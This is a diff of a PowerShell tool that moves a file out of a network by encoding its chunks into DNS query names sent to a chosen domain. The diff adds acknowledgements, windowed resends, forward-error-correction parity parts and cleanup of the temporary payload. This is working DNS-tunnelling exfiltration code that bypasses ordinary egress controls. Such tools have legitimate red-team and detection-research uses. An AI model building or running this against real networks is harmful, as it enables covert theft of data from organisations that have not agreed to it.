-    # Format: data_hex.part_num.hash8.<domain>
-    $DataQuery = "$ChunkHexLabels.$PartNum.$Hash8.$Domain"
+    # Format: data_enc[.m-<tag>].part_num.hash8.<domain>
+    $DataQuery = "$ChunkLabels$(Get-RecordTag -Name "$ChunkLabels.$PartNum.$Hash8.$Domain").$PartNum.$Hash8.$Domain"
     
     # Send DNS query
-    if ($DnsServer -eq "") {
-        Resolve-DnsName -Name $DataQuery -Type TXT -ErrorAction SilentlyContinue | Out-Null
-    } else {
-        Resolve-DnsName -Name $DataQuery -Type TXT -Server $DnsServer -ErrorAction SilentlyContinue | Out-Null
+    if ($QueryType -eq "A") {
+        $Values = @(Get-AddressValues -Name $DataQuery)
+        if ($Values.Count -ge 2 -and $Values[0] -ne 0xFFFFFF) {
+            return $Values[0]
+        }
+        return -1
+    }
+    $Ack = @(Get-TxtStrings -Name $DataQuery)
+    $Fields = "$($Ack | Select-Object -First 1)" -split " "
+    $Contiguous = 0
+    if ($Fields[0] -eq "OK" -and $Fields.Count -ge 2 -and [int]::TryParse($Fields[1], [ref]$Contiguous)) {
+        return $Contiguous
+    }
+    return -1
+}
+
+# Send data part PartNum, reading it from an open payload stream
+function Send-DataRecord {
+    param(
+        [System.IO.Stream]$Stream,
+        [int]$PartNum
+    )
+
+    return Send-Chunk -PartNum $PartNum -Chunk (Read-Chunk -Stream $Stream -PartNum $PartNum)
+}
+
+# GF(256) tables for the parity code (polynomial 0x11d, generator 2)
+$GfExp = New-Object int[] 512
+$GfLog = New-Object int[] 256
+$x = 1
+for ($i = 0; $i -lt 255; $i++) {
+    $GfExp[$i] = $x
+    $GfLog[$x] = $i
+    $x = $x -shl 1
+    if ($x -band 0x100) {
+        $x = $x -bxor 0x11d
+    }
+}
+for ($i = 255; $i -lt 512; $i++) {
+    $GfExp[$i] = $GfExp[$i - 255]
+}
+
+# Send the parity parts of FEC group Group (0-based)
+# Parity j = sum over i of ((255 xor i) / ((255 - j) xor i)) * data part i of
+# the group, zero-padded to the chunk size; parity j = 0 is the plain XOR
+function Send-ParityRecords {
+    param(
+        [System.IO.Stream]$Stream,
+        [int]$Group
+    )
+
+    $First = $Group * $FecData + 1
+    $Count = [math]::Min($FecData, $TotalParts - $First + 1)
+    $Shards = @()
+    for ($i = 0; $i -lt $Count; $i++) {
+        $Shards += ,(Read-Chunk -Stream $Stream -PartNum ($First + $i))
+    }
+
+    for ($j = 0; $j -lt $FecParity; $j++) {
+        $Parity = New-Object byte[] $ChunkSize
+        for ($i = 0; $i -lt $Count; $i++) {
+            $LogCoef = $GfLog[255 -bxor $i] + 255 - $GfLog[(255 - $j) -bxor $i]
+            $Shard = $Shards[$i]
+            for ($b = 0; $b -lt $Shard.Length; $b++) {
+                if ($Shard[$b] -ne 0) {
+                    $Parity[$b] = $Parity[$b] -bxor $GfExp[($GfLog[$Shard[$b]] + $LogCoef) % 255]
+                }
+            }
+        }
+        Send-Chunk -PartNum ($TotalParts + $Group * $FecParity + $j + 1) -Chunk $Parity | Out-Null
     }
-    
-    Write-Output "Part $PartNum/$TotalParts sent"
 }
 
 # Read file and send chunks sequentially (1-based part numbering)
+# Sliding window: when the server's contiguous high-water mark falls more than
+# MaxParallel parts behind, the part after it was lost. It is resent and
+# sending slows down, doubling the delay while the mark stays behind.
 Write-Host "Sending chunks sequentially..."
 $PartNum = 1
-$BytesRead = 0
+$Contiguous = 0
+$Backoff = 0
 
 # Open file stream once for all chunks
-$FileStream = [System.IO.File]::OpenRead($FilePath)
+$FileStream = [System.IO.File]::OpenRead($PayloadPath)
 
 try {
-    while ($BytesRead -lt $FileSize) {
-        # Read chunk from file
-        $ChunkLength = [math]::Min($ChunkSize, $FileSize - $BytesRead)
-        $Chunk = New-Object byte[] $ChunkLength
-        $FileStream.Seek($BytesRead, [System.IO.SeekOrigin]::Begin) | Out-Null
-        $FileStream.Read($Chunk, 0, $ChunkLength) | Out-Null
-        
-        # Convert to hex string
-        $ChunkHex = ($Chunk | ForEach-Object { $_.ToString("x2") }) -join ""
-        
-        # Split hex into DNS labels
-        $ChunkHexLabels = Split-HexLabels -HexStr $ChunkHex
-        
-        # Build data record query
-        $DataQuery = "$ChunkHexLabels.$PartNum.$Hash8.$Domain"
-        
-        # Send DNS query
-        if ($DnsServer -eq "") {
-            Resolve-DnsName -Name $DataQuery -Type TXT -ErrorAction SilentlyContinue | Out-Null
-        } else {
-            Resolve-DnsName -Name $DataQuery -Type TXT -Server $DnsServer -ErrorAction SilentlyContinue | Out-Null
-        }
-        
+    while ($PartNum -le $TotalParts) {
+        $Acked = Send-DataRecord -Stream $FileStream -PartNum $PartNum
         Write-Host "Part $PartNum/$TotalParts sent"
-        $BytesRead += $ChunkSize
+
+        # Follow a finished group with its parity parts
+        if ($ParityParts -gt 0 -and ($PartNum % $FecData -eq 0 -or $PartNum -eq $TotalParts)) {
+            Send-ParityRecords -Stream $FileStream -Group ([math]::Floor(($PartNum - 1) / $FecData))
+        }
         $PartNum++
+
+        if ($Acked -lt 0) {
+            # No acknowledgement (lost, or a server without them)
+            continue
+        }
+        if ($Acked -gt $Contiguous) {
+            $Contiguous = $Acked
+        }
+
+        if ($PartNum - 1 - $Contiguous -gt $MaxParallel) {
+            $Lost = $Contiguous + 1
+            Write-Host "Window stalled at part $Contiguous, resending part $Lost"
+            $Acked = Send-DataRecord -Stream $FileStream -PartNum $Lost
+            if ($Acked -gt $Contiguous) {
+                $Contiguous = $Acked
+            }
+            $Backoff = [math]::Min([math]::Max($Backoff * 2, 50), 2000)
+            Start-Sleep -Milliseconds $Backoff
+        } else {
+            $Backoff = 0
+        }
     }
 } finally {
     # Close file stream
@@ -186,45 +916,8 @@ while ($true) {
     Start-Sleep -Seconds $RetryDelay
     
     # Query for missing chunks with counter prefix to avoid DNS caching
-    $MissingQuery = "$RetryCount.missing.$Hash8.$Domain"
     Write-Host "Checking for missing chunks..."
-    
-    $MissingResponse = $null
-    if ($DnsServer -eq "") {
-        $MissingResponse = Resolve-DnsName -Name $MissingQuery -Type TXT -ErrorAction SilentlyContinue
-    } else {
-        $MissingResponse = Resolve-DnsName -Name $MissingQuery -Type TXT -Server $DnsServer -ErrorAction SilentlyContinue
-    }
-    
-    # Parse missing chunk numbers from TXT records
-    $MissingChunks = @()
-    if ($MissingResponse) {
-        foreach ($record in $MissingResponse) {
-            if ($record.Strings) {
-                foreach ($str in $record.Strings) {
-                    $chunkNum = 0
-                    if ([int]::TryParse($str, [ref]$chunkNum)) {
-                        if ($chunkNum -gt 0) {
-                            $MissingChunks += $chunkNum
-                        }
-                    }
-                }
-            }
-            # Also check if the record has a single string value directly
-            if ($record.Type -eq 16 -and $record.Strings.Count -eq 0) {
-                # Some PowerShell versions return TXT differently
-                $txtValue = $record | Select-Object -ExpandProperty Strings -ErrorAction SilentlyContinue
-                if ($txtValue) {
-                    $chunkNum = 0
-                    if ([int]::TryParse($txtValue, [ref]$chunkNum)) {
-                        if ($chunkNum -gt 0) {
-                            $MissingChunks += $chunkNum
-                        }
-                    }
-                }
-            }
-        }
-    }
+    $MissingChunks = @(Get-MissingChunks -Counter $RetryCount -Hash $Hash8)
     
     # Remove duplicates and ensure we have valid chunk numbers
     $MissingChunks = $MissingChunks | Where-Object { $_ -gt 0 } | Sort-Object -Unique
@@ -243,34 +936,11 @@ while ($true) {
     
     # Retry sending missing chunks sequentially (1-based)
     # Open file stream once for all retries
-    $RetryFileStream = [System.IO.File]::OpenRead($FilePath)
+    $RetryFileStream = [System.IO.File]::OpenRead($PayloadPath)
     
     try {
         foreach ($chunkNum in $MissingChunks) {
-            $chunkOffset = ($chunkNum - 1) * $ChunkSize
-            
-            # Read chunk from file
-            $ChunkLength = [math]::Min($ChunkSize, $FileSize - $chunkOffset)
-            $Chunk = New-Object byte[] $ChunkLength
-            $RetryFileStream.Seek($chunkOffset, [System.IO.SeekOrigin]::Begin) | Out-Null
-            $RetryFileStream.Read($Chunk, 0, $ChunkLength) | Out-Null
-            
-            # Convert to hex string
-            $ChunkHex = ($Chunk | ForEach-Object { $_.ToString("x2") }) -join ""
-            
-            # Split hex into DNS labels
-            $ChunkHexLabels = Split-HexLabels -HexStr $ChunkHex
-            
-            # Build data record query
-            $DataQuery = "$ChunkHexLabels.$chunkNum.$Hash8.$Domain"
-            
-            # Send DNS query
-            if ($DnsServer -eq "") {
-                Resolve-DnsName -Name $DataQuery -Type TXT -ErrorAction SilentlyContinue | Out-Null
-            } else {
-                Resolve-DnsName -Name $DataQuery -Type TXT -Server $DnsServer -ErrorAction SilentlyContinue | Out-Null
-            }
-            
+            Send-DataRecord -Stream $RetryFileStream -PartNum $chunkNum | Out-Null
             Write-Host "  Chunk $chunkNum retried"
         }
     } finally {
@@ -281,5 +951,13 @@ while ($true) {
     Write-Host ""
 }
 
+# Remove the compressed or encrypted temp file, and the bundle archive
+if ($PayloadPath -ne $FilePath) {
+    Remove-Item -Path $PayloadPath -ErrorAction SilentlyContinue
+}
+if ($BundleDir -ne "") {
+    Remove-Item -Path $FilePath -ErrorAction SilentlyContinue
+}
+
 Write-Host ""
 Write-Host "Transfer complete! File should be received as: $Filename"